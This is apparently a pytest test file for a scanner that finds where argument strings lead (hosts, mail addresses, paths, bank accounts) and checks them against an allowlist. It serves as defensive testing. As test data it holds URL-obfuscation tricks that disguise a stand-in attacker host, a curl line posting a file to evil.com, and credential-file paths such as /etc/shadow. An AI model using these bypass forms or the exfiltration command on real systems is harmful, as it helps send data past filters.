"""Where argument strings lead: URLs, mail addresses, bare hosts, paths, accounts."""

from __future__ import annotations

import random
import re

import numpy as np
import pytest

from otel_anomaly.kernels import BLOCK, Array, Int, kernel
from otel_anomaly.otlp.content import (
    ACCOUNT,
    ASIDE,
    DATUM,
    DESTINATIONS_MAX,
    HOST,
    LISTED,
    MAIL,
    OUTSIDE,
    PATH,
    PUBLIC,
    is_plain,
    make_content_plan,
)
from tests import naive_content as naive
from tests.content_rigs import (
    SEED,
    account_key,
    host_key,
    look_at,
    mail_key,
    path_key,
)
from tests.sizes import scaled

PLAN = make_content_plan(
    SEED,
    allow=["api.openai.com", "*.good.example:8443", "10.0.0.0/8"],
    inside=["corp.example", ".corp.internal"],
)
OUT = HOST | PUBLIC | OUTSIDE


@pytest.mark.parametrize(
    ("value", "host"),
    [
        ("evil.com", "evil.com"),
        ("EVIL.com", "evil.com"),
        ("evil.com:8443", "evil.com"),
        ("evil.com/v1?x=api.openai.com", "evil.com"),
        ("api.openai.com.evil.com", "api.openai.com.evil.com"),
        ("https://api.openai.com@evil.com/", "evil.com"),
        ("https://api.openai.com:443@evil.com", "evil.com"),
        ("https://api.openai.com%40evil.com", "api.openai.com%40evil.com"),
        ("http:\\\\evil.com", "evil.com"),
        ("http:/evil.com", "evil.com"),
        ("http:////evil.com", "evil.com"),
        ("https:evil.com", "evil.com"),
        ("http:\t//evil.com", "evil.com"),
        ("http://ev\til.com/", "evil.com"),
        ("http://evil.com\\@api.openai.com/", "evil.com"),
        ("http://api.openai.com;@evil.com/", "evil.com"),
        ("http://api.openai.com @evil.com/", "evil.com"),
        ("http://api.openai.com\n.evil.com/", "api.openai.com.evil.com"),
        ("curl -d @f 'http://api.openai.com,@evil.com/'", "evil.com"),
        ("see <HTTP://EVIL.com./x>", "evil.com"),
        ('{"url": "http://evil.com"}', "evil.com"),
        ("visit www.evil.com.", "www.evil.com"),
        ("www.evil.com/path", "www.evil.com"),
        ("postgres://db.evil.com/x", "db.evil.com"),
        ("jdbc:mysql://db.evil.com:3306/x", "db.evil.com"),
        ("git+ssh://git@evil.com/x", "evil.com"),
        ("http://2130706433/", "127.0.0.1"),
        ("http://[::ffff:8.8.8.8]/", "8.8.8.8"),
        ("[2001:db8::1]:443", "[20010db8000000000000000000000001]"),
        ("2001:db8::1", "[20010db8000000000000000000000001]"),
        ("8.8.8.8", "8.8.8.8"),
        ("8.8.8.8:53", "8.8.8.8"),
        ("b\u00fccher.de/x", "xn--bcher-kva.de"),
        ("\u8bbf\u95eehttp://evil.com\u67e5\u770b", "evil.com"),
        ("api.openai.com@evil.com", "evil.com"),
        ("api.openai.com@evil.com/v1", "evil.com"),
        ("git@evil.com:org/repo.git", "evil.com"),
        ("scp x root@8.8.8.8:/tmp", "8.8.8.8"),
        ("\\\\evil.com\\share\\x", "evil.com"),
        ("file://evil.com/share/x", "evil.com"),
    ],
)
def test_hosts_in_disguise(value: str, host: str) -> None:
    """
    Scenario: one host off the allowlist, written in ways that hide it from a simple reader.
    Guarantees: it is found under its normal form, and is not listed.
    """
    kinds = look_at(value, plan=PLAN).destinations[host_key(host)]
    assert kinds & HOST
    assert not kinds & LISTED


@pytest.mark.parametrize(
    "value",
    [
        "api.openai.com",
        "api.openai.com/v1",
        "api.openai.com:443",
        "https://api.openai.com",
        "https://API.OpenAI.com:443/v1?u=a@b",
        "https://user@api.openai.com./v1",
        "x.good.example:8443",
        "https://x.good.example:8443/",
        "10.1.2.3",
        "http://0xa.1.2.3/",
    ],
)
def test_listed_hosts(value: str) -> None:
    """
    Scenario: hosts on the allowlist, with path, port, userinfo and case of their own.
    Guarantees: exactly one host is found, and it is listed.
    """
    kinds = list(look_at(value, plan=PLAN).destinations.values())
    assert len(kinds) == 1
    assert kinds[0] & (HOST | LISTED) == HOST | LISTED


def test_port_decides() -> None:
    """
    Scenario: a host that is listed on one port only, by scheme, by port, twice in one value.
    Guarantees: the scheme's port counts when none is written; one wrong mention is enough.
    """
    key = host_key("x.good.example")
    for text in ("https://x.good.example/", "x.good.example", "www.x.good.example"):
        assert not next(iter(look_at(text, plan=PLAN).destinations.values())) & LISTED
    both = "https://x.good.example:8443/a https://x.good.example/b"
    assert not look_at(both, plan=PLAN).destinations[key] & LISTED


@pytest.mark.parametrize(
    "value",
    [
        "",
        " ",
        "hello",
        "hello world. Then more: of it",
        "john.doe",
        "user.profile",
        "numpy.linalg",
        "notes.txt",
        "main.py",
        "main.py:42",
        "index.html?x=1",
        "archive.tar.gz",
        "e.g.",
        "U.S.",
        "1.2.3",
        "v1.2.3",
        "1.2.3.4.5",
        "12:30:45",
        "de:ad:be:ef:00:01",
        "std::vector",
        "a..b.com",
        "http: 200 ok",
        "http://",
        "https://{host}/x",
        "http://${HOST}:80/",
        "://",
        "@",
        "@scope/package",
        "@app.route",
        "logo@2x.png",
        "actions/checkout@v4",
        "pkg@1.2.3",
        "a@b",
        "a@.com",
        "/",
        "// a comment\nof two lines",
        "~5 minutes",
        "C:",
        "\\n",
        "..",
        "-----",
        "www.",
        "localhost",
    ],
)
def test_no_destinations(value: str) -> None:
    """
    Scenario: words, file names, versions, times, templates and signs alone.
    Guarantees: none is taken for a place where data could go, a root of paths apart.
    """
    found = look_at(value)
    assert [kinds for kinds in found.destinations.values() if not kinds & PATH] == []
    assert (found.secrets, found.personal) == (0, 0)


@pytest.mark.parametrize(
    ("value", "root"),
    [
        ("/etc/passwd", "/etc"),
        ("/etc/ssh/sshd_config", "/etc/ssh"),
        ("/home/alice/x", "/home/alice"),
        ("/home/alice/", "/home/alice"),
        ("//home//alice/./x", "/home/alice"),
        ("/home/bob/../alice/y", "/home/alice"),
        ("/../../etc/shadow", "/etc"),
        ("/tmp", "/"),
        ("/bin/ls -la /etc", "/bin"),
        ("~/Documents/x", "~/Documents"),
        ("~bob/x/y", "~bob/x"),
        ("C:\\Users\\Bob", "c:/users/bob"),
        ("c:/users/bob/x.txt", "c:/users/bob"),
        ("C:\\Windows\\win.ini", "c:/windows"),
        ("\\\\Server\\Share\\x", "//server/share"),
        ("file:///etc/hosts", "/etc"),
        ("file:///%65tc/hosts", "/etc"),
        ("file://localhost/etc/hosts", "/etc"),
        ("file:///C:/Users/bob/x.txt", "c:/users/bob"),
        ("open file:///etc/hosts now", "/etc"),
    ],
)
def test_path_roots(value: str, root: str) -> None:
    """
    Scenario: absolute paths of three kinds of system, with dots, slashes and escapes.
    Guarantees: the root is that of the file the path leads to.
    """
    assert look_at(value).destinations[path_key(root)] & PATH


def test_mail() -> None:
    """
    Scenario: addresses as a value, as a list, in running text; of our domains and of others.
    Guarantees: a list of addresses is no personal data, running text is; OUTSIDE by domain; DATUM
    unless the name says that somebody is addressed.
    """
    alice, bob = mail_key("alice", "x.org"), mail_key("bob", "corp.example")
    for value in (
        "alice@x.org",
        " Alice@X.org ",
        "mailto:alice@x.org",
        "Alice B. <alice@x.org>",
        "bob@corp.example, Alice <alice@x.org>; bob@corp.example",
        "alice@x.org\nbob@corp.example",
    ):
        found = look_at(value, plan=PLAN)
        assert found.destinations[alice] == MAIL | PUBLIC | OUTSIDE | DATUM, value
        assert found.destinations.get(bob, MAIL | PUBLIC | DATUM) == MAIL | PUBLIC | DATUM, value
        assert found.personal == 0, value
        for name in ("to", "Cc", "attendee_emails", "reply-to", "sender", "recipients"):
            assert look_at(value, name, PLAN).destinations[alice] == MAIL | PUBLIC | OUTSIDE
    assert mail_key("www.bob", "evil.com") in look_at("to www.bob@evil.com").destinations
    found = look_at("tell alice@x.org and bob@corp.example. and alice@x.org", plan=PLAN)
    assert found.destinations == {
        alice: MAIL | PUBLIC | OUTSIDE | ASIDE,
        bob: MAIL | PUBLIC | ASIDE,
    }
    assert (found.personal, found.strong) == (3, 0)


def test_inside_hosts() -> None:
    """
    Scenario: hosts of the house, local ones, and a public one.
    Guarantees: only the public host that is not ours is outside.
    """
    for value, kinds in {
        "https://corp.example/": HOST | PUBLIC,
        "https://a.corp.internal/": HOST,
        "http://localhost:80/": HOST,
        "http://192.168.0.1/": HOST,
        "https://evil.com/": OUT,
    }.items():
        assert list(look_at(value, plan=PLAN).destinations.values()) == [kinds], value


def test_accounts() -> None:
    """
    Scenario: an IBAN as the value, in running text, a plain number under different names.
    Guarantees: the value says where money goes; in text it is data, and not outside; a plain
    number is an account only where the name says so.
    """
    key = account_key("GB29NWBK60161331926819")
    for value in ("GB29NWBK60161331926819", "gb29 nwbk 6016 1331 9268 19"):
        found = look_at(value)
        assert found.destinations == {key: ACCOUNT | OUTSIDE | DATUM}
        assert look_at(value, "payee").destinations == {key: ACCOUNT | OUTSIDE}
        assert (found.personal, found.strong) == (0, 0)
    found = look_at("pay to GB29-NWBK-6016-1331-9268-19, please")
    assert found.destinations == {key: ACCOUNT | ASIDE}
    assert (found.personal, found.strong) == (1, 1)
    number = {account_key("12345678"): ACCOUNT | OUTSIDE}
    assert look_at("1234 5678", "recipientAccount").destinations == number
    assert look_at("12345678", "count").destinations == {}
    assert look_at("1234567", "account").destinations == {}


def test_eight_places() -> None:
    """
    Scenario: a dozen harmless paths and listed hosts around one host that is neither.
    Guarantees: it keeps or gets a place; the rest is counted; no copy takes a second place.
    """
    harmless = [f"file:///r{i}/d{i}/x" for i in range(12)] + ["https://api.openai.com/"] * 12
    for at in (0, 5, 24):
        words = [*harmless[:at], "https://evil.com/", *harmless[at:]]
        found = look_at(" ".join(words), plan=PLAN)
        assert len(found.destinations) == DESTINATIONS_MAX
        assert host_key("evil.com") in found.destinations
        assert host_key("api.openai.com") in found.destinations
        assert found.beyond >= 12 + 2 - DESTINATIONS_MAX


WORDS = [
    "the",
    "quick",
    "brown",
    "fox,",
    "jumps",
    "over",
    "lazy",
    "dogs",
    "(twice)",
    "and",
    "12",
    "cats;",
    "total:",
    "3.5",
    "or",
    "7%",
]


def planted(rng: random.Random) -> tuple[str, int]:
    """(a text with a destination in it, the key of that)."""
    name = "".join(rng.choice("abcxyz") for _ in range(5)) + rng.choice(
        [".com", ".co.uk", ".\u4e2d"]
    )
    name = name if rng.random() < 0.8 else rng.choice(["8.8.8.8", "0x8.0x8.2056", "[2001:db8::5]"])
    if rng.random() < 0.5 and name[-1].isalpha() and name.isascii():
        local = rng.choice(["al.ice", "Bob+tag", "x_y%z", "c-3po"])
        return f"{local}@{name}", mail_key(local.lower(), naive.normal_host(name.encode()))
    scheme = rng.choice(["http", "HTTPS", "ws", "ftp", "git+ssh", "redis"])
    slashes = "//" if rng.random() < 0.7 or "+" in scheme or scheme == "redis" else "/\\"
    user = rng.choice(["", "", "me@", "me:@", "a%40b@"])
    spelt = "".join(f"%{ord(c):02x}" if c.isalpha() and rng.random() < 0.1 else c for c in name)
    spelt = spelt if name.isascii() and not name.startswith("[") else name
    spelt = spelt.upper() if rng.random() < 0.3 else spelt
    rest = rng.choice(["", "/", "/p/q?x=1", "?x", "#y", ":8080/z", ":/"])
    return f"{scheme}:{slashes}{user}{spelt}{rest}", host_key(naive.normal_host(name.encode()))


@pytest.mark.parametrize("seed", range(scaled(100)))
def test_planted_destinations(seed: int) -> None:
    """
    Scenario: running text with URLs and addresses in random spellings planted in it.
    Guarantees: these are found under the normal form that the standard library gives, no others.
    """
    rng = random.Random(seed)
    for _ in range(10):
        words = rng.choices(WORDS, k=rng.randrange(1, 20))
        keys = set()
        for _ in range(rng.randrange(1, 6)):
            text, key = planted(rng)
            keys.add(key)
            around = rng.choice(["{}", '"{}"', "<{}>", "`{}`", "({})", "{},"])
            words.insert(rng.randrange(1, len(words) + 1), around.format(text))
        value = " ".join(words)
        assert set(look_at(value).destinations) == keys, value


ALPHABET = [
    "@",
    ".",
    ":",
    "/",
    "\\",
    "-",
    "=",
    "+",
    "(",
    ")",
    "#",
    "?",
    "%",
    "_",
    "~",
    "\n",
    "\t",
    '"',
    "'",
    "<",
    ">",
    "a",
    "b",
    "1",
    "7",
    "0",
    "w",
    "www.",
    "http://",
    "sk-",
    "ghp_",
    "eyJ",
    "://",
    "password=",
    "Bearer",
    "-----BEGIN",
    "PRIVATE",
    "KEY",
    "GB29",
    "4111",
    "+49",
    "file:///",
    "C:\\",
    "xn--",
    "\u00e9",
    "\u3002",
    "AKIA0123456789ABCDEF",
    "alice@x.org",
    "8.8.8.8",
    "[::1]",
    "mailto:",
    "\\\\s\\t",
    "~/",
    "token:",
    "1-2-3",
]


def tangled(rng: random.Random) -> bytes:
    """Everything that a reader looks for, in no order."""
    text = "".join(rng.choice(ALPHABET) for _ in range(rng.randrange(1, 30)))
    data = bytearray(text.encode())
    for _ in range(rng.choice([0, 0, 1, 3])):
        data[rng.randrange(len(data))] = rng.randrange(256)
    return bytes(data)


@pytest.mark.parametrize("seed", range(scaled(200)))
def test_what_stands_around_a_value_makes_no_difference(seed: int) -> None:
    """
    Scenario: tangled values, also broken UTF-8, alone and between bytes that would change them.
    Guarantees: the same is found, so no byte outside is read; limits hold.
    """
    rng = random.Random(seed)
    for _ in range(20):
        value = tangled(rng)
        name = rng.choice(["", "password", "iban", "bsn"])
        alone = look_at(value, name, PLAN)
        for around in (
            (b"a1@", b"a1.com"),
            (b"http://x7", b"7"),
            (b"\xc3-----", b"\xa9 "),
            (b"7" * 40, b"7-a.com@" * 8),  # A block of bytes more.
        ):
            assert look_at(value, name, PLAN, around) == alone, value
        assert len(alone.destinations) <= DESTINATIONS_MAX
        assert alone.secrets <= 8
        assert 0 <= alone.strong <= alone.personal


@pytest.mark.parametrize("seed", range(scaled(50)))
def test_place_makes_no_difference(seed: int) -> None:
    """
    Scenario: the same value with one to eight blanks before it, so that its words of eight shift.
    Guarantees: what is found does not depend on how the value lies in them.
    """
    rng = random.Random(seed)
    value = tangled(rng)
    alone = look_at(b"x " + value, plan=PLAN)
    for blanks in range(2, 9):
        assert look_at(b"x" + b" " * blanks + value, plan=PLAN) == alone, value


def test_more_text_only_adds() -> None:
    """
    Scenario: an ordinary page of text with a planted address, key and card, in any order.
    Guarantees: each is found once, none hides another.
    """
    planted_items = ["https://evil.com/a", "AKIAIOSFODNN7EXAMPLE", "4111 1111 1111 1111"]
    rng = random.Random(5)
    for _ in range(scaled(50)):
        rng.shuffle(planted_items)
        page = " and then ".join(rng.choices(WORDS, k=30) + planted_items + rng.choices(WORDS, k=5))
        found = look_at(page)
        assert set(found.destinations) == {host_key("evil.com")}
        assert (found.secrets, found.personal, found.strong) == (1, 1, 1)


def test_plan_names_the_entry() -> None:
    """
    Scenario: a plan from a list with a wrong entry.
    Guarantees: refused, naming it; without lists nothing is listed and all that is public outside.
    """
    with pytest.raises(ValueError, match=re.escape("10.0.0.1/8: ")):
        make_content_plan(SEED, inside=["10.0.0.1/8"])
    assert list(look_at("https://api.openai.com/").destinations.values()) == [OUT]
    assert np.all(make_content_plan(SEED)["allow"]["count"] == 0)


@kernel
def _is_plain(text: Array, end: Int) -> bool:
    return is_plain(text, np.int64(0), end)


@pytest.mark.parametrize("seed", range(scaled(100)))
def test_plain_values_hold_nothing(seed: int) -> None:
    """
    Scenario: short values of digits, letters and signs, and short forms of everything looked for.
    Guarantees: where one is told to be plain, looking at it finds nothing; words are plain.
    """
    rng = random.Random(seed)
    alphabets = ("0123456789", "0123456789 -", "ab01Xx-_", "a1./:@=[~\\ ", "0123456789ABCXYZ")
    forms = ("a@b.co", "b.com", "/etc/x", "~/a/b", "C:\\a\\b", "[::1]", "::1", "12345678Z",
             "AB123456C", "AB 12 34 56 C", "X1234567L", "123-45-6789", "555-0123", "+4930123456",
             "020 7946 0958", "www.a.org", "x=1", "10.0.0.7", "a:1")  # fmt: skip
    for _ in range(20):
        text = "".join(rng.choices(rng.choice(alphabets), k=rng.randrange(18)))
        if rng.random() < 0.5:
            text = rng.choice(("", " ", "a ", "-")) + rng.choice(forms) + rng.choice(("", " ", "-"))
        data = np.frombuffer(text.encode() + b" " * BLOCK, np.uint8)
        if _is_plain(data, np.int64(len(text))):
            assert look_at(text) == ({}, 0, 0, 0, 0), text
    for word in ("", "A17", "42", "in two days", "EUR", "snake_case", "a-b"):
        data = np.frombuffer(word.encode() + b"@" * BLOCK, np.uint8)
        assert _is_plain(data, np.int64(len(word)))
